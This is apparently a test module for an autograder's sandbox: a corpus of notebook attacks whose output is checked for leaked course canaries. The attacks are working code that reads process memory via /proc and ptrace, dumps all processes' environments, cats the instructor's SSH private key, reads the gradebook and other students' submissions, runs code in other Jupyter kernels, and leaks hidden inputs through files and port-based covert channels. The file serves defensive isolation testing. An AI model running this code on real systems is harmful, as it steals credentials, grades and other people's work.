"""Reading what students must not see: hidden tests, solutions, grades, neighbours, the machine.

What an attack finds it prints. The tests look for the course's canaries in everything that the
student gets to see; the attack's own word counts for nothing.
"""

from pathlib import Path

from nbformat import NotebookNode

from tests.grading.corpus import Corpus, answer, extra, in_a_cell, in_function, wrong
from tests.grading.course import BYSTANDER, World

ATTACKS = Corpus()
attack = ATTACKS.family("reading")

# Prints what looks like a secret, and every file that can be opened.
SHOW = r"""
import os
import re
from pathlib import Path


def show(found):
    if isinstance(found, bytes):
        found = found.decode("latin-1")
    for word in sorted(set(re.findall(r"canary-[a-z]+-[0-9a-f]{16}", str(found)))):
        print(word)


def show_file(path):
    try:
        show(Path(path).read_bytes())
    except OSError as error:
        print(type(error).__name__, path)


def show_folder(folder, limit=20_000):
    for number, (place, _, names) in enumerate(os.walk(folder)):
        for name in names:
            show_file(os.path.join(place, name))
        if number > limit:
            break
"""


def _cell(notebook: NotebookNode, source: str, *, after: str = "setup") -> None:
    """Run this code in a cell, with the functions above at hand."""
    in_a_cell(notebook, source, after=after)
    extra(notebook, SHOW)


def _function(notebook: NotebookNode, source: str) -> None:
    """Run this code whenever a check calls an answer, with the functions above at hand."""
    in_function(notebook, source)
    extra(notebook, SHOW)


@attack()
def history_of_inputs(notebook: NotebookNode, _: Path, __: World) -> None:
    """The tested function prints IPython's record of the cell that runs: In, _i, the history."""
    _function(
        notebook,
        """
        shell = get_ipython()
        names = shell.user_ns
        show(names.get("In"))
        show([names.get(n) for n in ("_i", "_ii", "_iii", "_ih")])
        show(list(shell.history_manager.get_range(output=False)))
        show(shell.history_manager.input_hist_raw)
        """,
    )


@attack()
def frames_and_linecache(notebook: NotebookNode, _: Path, __: World) -> None:
    """The tested function prints the source of every frame above it, and all that is cached."""
    _function(
        notebook,
        """
        import inspect
        import linecache
        import sys

        frame = sys._getframe()
        while frame is not None:
            try:
                show(inspect.getsource(frame))
            except (OSError, TypeError):
                pass
            show(frame.f_code.co_consts)
            show(dict(frame.f_globals).get("hidden_canary"))
            show(dict(frame.f_locals))
            frame = frame.f_back
        show(linecache.cache)
        """,
    )


@attack()
def variables_of_checks(notebook: NotebookNode, _: Path, __: World) -> None:
    """A cell behind the checks prints the variables that they left."""
    _cell(notebook, "show(globals())\nshow(globals().get('hidden_canary'))", after="check-relu")
    extra(notebook, "show(list(vars().values()))\nprint(globals().get('far'))", after="check-noisy")


@attack()
def strings_in_memory(notebook: NotebookNode, _: Path, __: World) -> None:
    """gc finds every container and code object in the process, and prints the strings in them."""
    _function(
        notebook,
        """
        import gc
        import types

        for thing in gc.get_objects():
            try:
                if isinstance(thing, (dict, list, tuple)) and len(thing) < 5000:
                    show(thing)
                elif isinstance(thing, types.FunctionType):
                    show(thing.__code__.co_consts)
            except Exception:
                pass
        """,
    )


@attack()
def own_memory(notebook: NotebookNode, _: Path, __: World) -> None:
    """The process's own memory, read through /proc/self/mem, is searched."""
    _function(
        notebook,
        """
        spans = [line.split() for line in Path("/proc/self/maps").read_text().splitlines()]
        with open("/proc/self/mem", "rb", 0) as memory:
            for span in spans:
                low, high = (int(word, 16) for word in span[0].split("-"))
                if "w" in span[1] and high - low < 64 * 2**20:
                    try:
                        memory.seek(low)
                        show(memory.read(high - low))
                    except (OSError, ValueError, OverflowError):
                        pass
        """,
    )


@attack()
def callback_code(notebook: NotebookNode, _: Path, __: World) -> None:
    """iterate prints everything that hangs on the function which the check hands it."""
    _function(
        notebook,
        """
        todo, seen = list(arguments), set()
        while todo and len(seen) < 3000:
            thing = todo.pop()
            if id(thing) in seen:
                continue
            seen.add(id(thing))
            show(repr(thing)[:100_000])
            if isinstance(thing, dict):
                todo += list(thing.values())
            for name in ("__globals__", "__code__", "__closure__", "__dict__", "co_consts"):
                todo.append(getattr(thing, name, None))
        """,
    )


@attack(deserves={"relu": 1.0})
def prints_inputs(notebook: NotebookNode, _: Path, __: World) -> None:
    """An answer is right, and prints the inputs on which the hidden tests call it."""
    wrong(notebook)
    answer(notebook, "relu", "def relu(x):\n    print(x.tolist())\n    return x.clamp(min=0)\n")


@attack(deserves={"relu": 1.0})
def writes_inputs_to_descriptors(notebook: NotebookNode, _: Path, __: World) -> None:
    """An answer is right, and writes its inputs past Python's streams, to standard output."""
    wrong(notebook)
    answer(
        notebook,
        "relu",
        """
        import logging
        import os
        import warnings

        def relu(x):
            text = str(x.tolist())
            for number in (1, 2):
                os.write(number, text.encode())
            os.system(f"echo '{text}'")
            warnings.warn(text)
            logging.error(text)
            display(text)
            return x.clamp(min=0)
        """,
    )


@attack()
def raises_inputs(notebook: NotebookNode, _: Path, __: World) -> None:
    """The answers raise errors that say on which input they were called."""
    wrong(notebook)
    answer(
        notebook,
        "relu",
        """
        def relu(x):
            if x.abs().max() > 100:
                raise ValueError(f"the hidden input is {x.tolist()}")
            return torch.where(x > 0, x, torch.zeros_like(x))
        """,
    )


@attack(deserves={"relu": 1.0})
def keeps_inputs_for_later(notebook: NotebookNode, _: Path, __: World) -> None:
    """A right answer keeps its inputs, in memory and in files, and a last cell prints them."""
    wrong(notebook)
    answer(
        notebook,
        "relu",
        """
        kept = []
        places = (".", "/tmp", "/dev/shm", "/var/tmp")

        def relu(x):
            kept.append(x.tolist())
            for place in places:
                try:
                    with open(f"{place}/kept-inputs.txt", "a") as stream:
                        print(kept[-1], file=stream)
                except OSError:
                    pass
            return x.clamp(min=0)
        """,
    )
    extra(
        notebook,
        """
        print(kept)
        for place in places:
            try:
                print(open(f"{place}/kept-inputs.txt").read())
            except OSError:
                pass
        """,
        after="check-noisy",
    )


@attack(deserves={"relu": 1.0})
def keeps_inputs_in_shared_memory(notebook: NotebookNode, _: Path, __: World) -> None:
    """A right answer writes its inputs into memory that forks share, and a last cell prints it."""
    wrong(notebook)
    answer(
        notebook,
        "relu",
        """
        import mmap

        shared = mmap.mmap(-1, 4096)

        def relu(x):
            shared.write(repr(x.tolist()).encode())
            return x.clamp(min=0)
        """,
    )
    extra(notebook, "print(shared[:].rstrip(bytes(1)))", after="check-noisy")


@attack(deserves={"relu": 1.0})
def tells_inputs_in_a_file_by_another_answer(notebook: NotebookNode, _: Path, __: World) -> None:
    """A right answer writes its inputs into a file, and another raises what it reads there."""
    wrong(notebook)
    answer(
        notebook,
        "relu",
        """
        def relu(x):
            with open("/tmp/kept", "a") as stream:
                print(x.tolist(), file=stream)
            return x.clamp(min=0)
        """,
    )
    for name, signature in (
        ("mean_and_spread", "mean_and_spread(x)"),
        ("iterate", "iterate(step, start, times)"),
    ):
        answer(
            notebook,
            name,
            f"def {signature}:\n    raise MemoryError(open('/tmp/kept').read())\n",
        )


@attack(deserves={"relu": 1.0})
def tells_inputs_by_another_answer(notebook: NotebookNode, _: Path, __: World) -> None:
    """A right answer keeps its inputs, and another raises them when it is called by its check."""
    wrong(notebook)
    answer(
        notebook,
        "relu",
        "kept = []\ndef relu(x):\n    kept.append(x.tolist())\n    return x.clamp(min=0)\n",
    )
    for name, signature in (
        ("mean_and_spread", "mean_and_spread(x)"),
        ("iterate", "iterate(step, start, times)"),
    ):
        answer(notebook, name, f"def {signature}:\n    raise ValueError(kept)\n")


@attack()
def source_folder(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell reads the course's source/, by its path and by going up from where it runs."""
    _cell(
        notebook,
        f"""
        for folder in ({str(world.root)!r}, "..", "../..", "../../..", "../../../.."):
            show_folder(os.path.join(folder, "source"))
        print(os.getcwd(), os.listdir("."))
        """,
    )


@attack()
def gradebook_file(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell reads the gradebook's file, and asks nbgrader's own interface for grades."""
    _cell(
        notebook,
        f"""
        import sqlite3

        path = {str(world.root / "gradebook.db")!r}
        show_file(path)
        try:
            with sqlite3.connect(path) as book:
                for (table,) in book.execute("select name from sqlite_master where type='table'"):
                    show(book.execute(f"select * from {{table}}").fetchall())
        except sqlite3.Error as error:
            print(error)
        try:
            from nbgrader.api import Gradebook

            with Gradebook("sqlite:///" + path) as book:
                show([student.to_dict() for student in book.students])
        except Exception as error:
            print(type(error).__name__)
        """,
    )


@attack()
def neighbours_submissions(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell reads what other students handed in, and their graded work."""
    _cell(
        notebook,
        f"""
        for step in ("submitted", "autograded", "feedback"):
            for folder in ({str(world.root)!r}, "..", "../..", "../../.."):
                show_folder(os.path.join(folder, step, {BYSTANDER!r}))
                show_folder(os.path.join(folder, {BYSTANDER!r}))
        """,
    )


@attack()
def environment_variables(notebook: NotebookNode, _: Path, __: World) -> None:
    """A cell prints the environment of its own process and of every other."""
    _cell(
        notebook,
        """
        show(dict(os.environ))
        for path in Path("/proc").glob("[0-9]*/environ"):
            show_file(path)
        """,
    )


@attack()
def other_processes(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell reads every process's command line, files, working folder and root under /proc."""
    _cell(
        notebook,
        f"""
        for process in Path("/proc").glob("[0-9]*"):
            show_file(process / "cmdline")
            for name in ("cwd/source", "cwd/submitted", "root{world.home}", "root{world.root}"):
                show_folder(process / name, limit=200)
            try:
                for link in (process / "fd").iterdir():
                    if link.is_file():
                        show_file(link)
            except OSError:
                pass
        """,
    )


@attack()
def parents_memory(notebook: NotebookNode, _: Path, __: World) -> None:
    """A cell reads the memory of its parent and its parent's parent, and tries to trace them."""
    _cell(
        notebook,
        """
        import ctypes

        library = ctypes.CDLL(None, use_errno=True)
        pid = os.getppid()
        for _ in range(3):
            if pid < 1:
                break
            print(pid, library.ptrace(16, pid, 0, 0))
            try:
                lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
                spans = [line.split() for line in lines]
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    for span in spans:
                        low, high = (int(word, 16) for word in span[0].split("-"))
                        if "w" in span[1] and high - low < 64 * 2**20:
                            try:
                                memory.seek(low)
                                show(memory.read(high - low))
                            except (OSError, ValueError, OverflowError):
                                pass
            except OSError as error:
                print(type(error).__name__)
            library.ptrace(17, pid, 0, 0)
            try:
                pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            except OSError:
                break
        """,
    )


@attack()
def instructors_home(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell reads the instructor's home and keys, by ~ and by path."""
    _cell(
        notebook,
        f"""
        for home in (os.path.expanduser("~"), {str(world.home)!r}):
            show_folder(os.path.join(home, ".ssh"))
        show_folder({str(world.outside)!r})
        """,
    )


@attack()
def answer_key_module(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell imports a module that lies where only the instructor's Python finds it."""
    _cell(
        notebook,
        f"""
        import sys

        for attempt in ({str(world.root.parent / "keys")!r}, *sys.path):
            sys.path.append(attempt)
            show_folder(os.path.join(attempt, "answer_key"))
        try:
            import answer_key

            show(answer_key.SECRET)
        except ImportError as error:
            print(error)
        """,
    )


@attack()
def bytecode_of_a_hidden_module(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell reads and runs all that lies beside the modules that it may import."""
    _cell(
        notebook,
        f"""
        import importlib
        import importlib.util
        import sys

        for folder in ({str(world.root.parent / "keys")!r}, *sys.path):
            show_folder(os.path.join(folder, "library"))
            for path in Path(folder, "library").glob("**/*.pyc"):
                spec = importlib.util.spec_from_file_location("found", path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                show(vars(module))
        for name in ("library.answers", "library.drafts.answers"):
            try:
                show(vars(importlib.import_module(name)))
            except ImportError as error:
                print(error)
        """,
    )


# Digits of an input become ports, which stay taken for a minute.
PORTS = """
import socket

def say(number):
    for place, digit in enumerate(f"{int(number):07d}"[:7]):
        with socket.socket() as server:
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind(("127.0.0.1", 20_000 + 10 * place + int(digit)))
            server.listen()
            with socket.create_connection(server.getsockname()) as end:
                there, _ = server.accept()
                there.close()

def is_taken(port):
    with socket.socket() as end:
        try:
            end.bind(("127.0.0.1", port))
        except OSError:
            return True
    return False

found = [[d for d in range(10) if is_taken(20_000 + 10 * place + d)] for place in range(7)]
print("".join(str(*digits[:1]) for digits in found))
"""


def _ports(notebook: NotebookNode) -> None:
    wrong(notebook)
    answer(
        notebook,
        "relu",
        """
        def relu(x):
            if x.numel() == 2:
                say(x.max())
            return x.clamp(min=0)
        """,
    )
    extra(notebook, PORTS)


@attack(deserves={"relu": 1.0})
def ports_that_a_friend_left(notebook: NotebookNode, _: Path, __: World) -> None:
    """A right answer takes a port for each digit of its input, and a cell prints what is taken."""
    _ports(notebook)


@attack(deserves={"relu": 1.0})
def ports_that_a_friend_left_before(notebook: NotebookNode, _: Path, __: World) -> None:
    """The friend, who does the same, and whose turn is right after."""
    _ports(notebook)


@attack()
def network(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell connects to a port of this machine and to an abstract socket, and looks up a name."""
    _cell(
        notebook,
        f"""
        import socket

        for family, address in (
            (socket.AF_INET, ("127.0.0.1", {world.port})),
            (socket.AF_INET6, ("::1", {world.port})),
            (socket.AF_INET6, ("::ffff:127.0.0.1", {world.port})),
            (socket.AF_UNIX, "\\0autograder-{world.port}"),
        ):
            try:
                with socket.socket(family) as connection:
                    connection.settimeout(2)
                    connection.connect(address)
                    connection.sendall(b"hello")
                    print("connected to", address)
            except OSError as error:
                print(address, error)
        """,
    )


@attack()
def network_from_the_function(notebook: NotebookNode, _: Path, world: World) -> None:
    """The tested function sends what it is called with to a port of this machine."""
    in_function(
        notebook,
        f"""
        import socket
        import urllib.request

        try:
            urllib.request.urlopen("http://127.0.0.1:{world.port}/?found", timeout=2)
        except Exception:
            pass
        """,
    )


@attack()
def kernel_connection_files(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell looks for the connection files of other kernels, with which to run code there."""
    _cell(
        notebook,
        f"""
        folder = {str(world.root.parent / "jupyter" / "runtime")!r}
        found = list(Path(folder).glob("kernel-*.json")) if os.path.isdir(folder) else []
        for path in found:
            from jupyter_client import BlockingKernelClient

            client = BlockingKernelClient(connection_file=str(path))
            client.load_connection_file()
            client.start_channels()
            client.execute("import os; os.environ")
            client.stop_channels()
            print("reached", path)
        """,
    )


@attack()
def shared_memory_and_tmp(notebook: NotebookNode, _: Path, __: World) -> None:
    """A cell reads all of /dev/shm, /tmp, /run, /var and /mnt that it can open."""
    _cell(
        notebook,
        """
        for folder in ("/dev/shm", "/var/tmp", "/run", "/mnt", "/srv"):
            show_folder(folder, limit=300)
        for place, folders, names in os.walk("/tmp"):
            if any(name in place for name in ("/site-packages", "/lib/python", "/.git")):
                folders.clear()
            for name in names:
                path = os.path.join(place, name)
                if os.path.isfile(path) and os.path.getsize(path) < 2_000_000:
                    show_file(path)
        """,
    )


@attack()
def magics_that_read(notebook: NotebookNode, _: Path, world: World) -> None:
    """A cell reads by IPython's magics, the shell and %run instead of by Python."""
    _cell(
        notebook,
        f"""
        show(get_ipython().getoutput("cat {world.root}/source/tiny/tiny.ipynb"))
        pattern = "canary-[a-z]*-[0-9a-f]*"
        show(get_ipython().getoutput(f"grep -rho '{{pattern}}' {world.root} {world.home}"))
        get_ipython().run_line_magic("cat", "{world.home}/.ssh/id_ed25519")
        show(get_ipython().getoutput("ps auxeww"))
        """,
    )


@attack()
def moved_into_the_folder(notebook: NotebookNode, _: Path, world: World) -> None:
    """What can be read is copied into the folder, to come back with the feedback."""
    _cell(
        notebook,
        f"""
        import shutil

        for number, name in enumerate(("source/tiny/tiny.ipynb", "gradebook.db")):
            try:
                shutil.copy(os.path.join({str(world.root)!r}, name), f"copy-{{number}}.txt")
                show_file(f"copy-{{number}}.txt")
            except OSError as error:
                print(type(error).__name__)
        """,
    )
